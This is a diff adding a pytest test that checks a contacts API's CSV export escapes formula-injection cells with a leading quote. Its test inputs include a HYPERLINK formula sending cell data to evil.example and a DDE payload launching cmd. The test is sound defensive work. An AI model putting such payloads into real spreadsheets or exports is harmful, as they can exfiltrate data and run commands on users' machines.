@@ -358,3 +358,34 @@ class TestLinkingAnAccount:
             "/api/v1/calendars/events/entries", json=entry, headers=auth(admin)
         )
         assert_problem(taken, 403)
+
+
+class TestCsvExportIsData:
+    @pytest.mark.parametrize(
+        "fields",
+        [
+            {"name": '=HYPERLINK("http://evil.example/?"&A1,"Click me")'},
+            {"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
+            {"name": "Tab", "title": "\t=1+1"},
+            {"name": "Carriage", "title": "\r=1+1"},
+            {"name": "Plus", "phone": "+1 916 555 0100"},
+            {"name": "Minus", "phone": "-1-916-555-0100"},
+            {"name": "Mail", "email": "=1+2@evil.example"},
+        ],
+    )
+    async def test_hostile_cells_are_written_as_text(
+        self, client: httpx.AsyncClient, office: str, fields: dict
+    ) -> None:
+        person = await add(client, office, county="06043", **fields)
+        reply = await client.get(
+            "/api/v1/contacts",
+            params={"q": person["name"][:60]},
+            headers={**auth(office), "Accept": "text/csv"},
+        )
+        rows = [r for r in csv.DictReader(io.StringIO(reply.text)) if r["county"] == "06043"]
+        row = next(r for r in rows if r["name"].lstrip("'") == person["name"])
+        for key, value in fields.items():
+            if value[0] in "=+-@\t\r":
+                assert row[key] == "'" + value, row
+            else:
+                assert row[key] == value
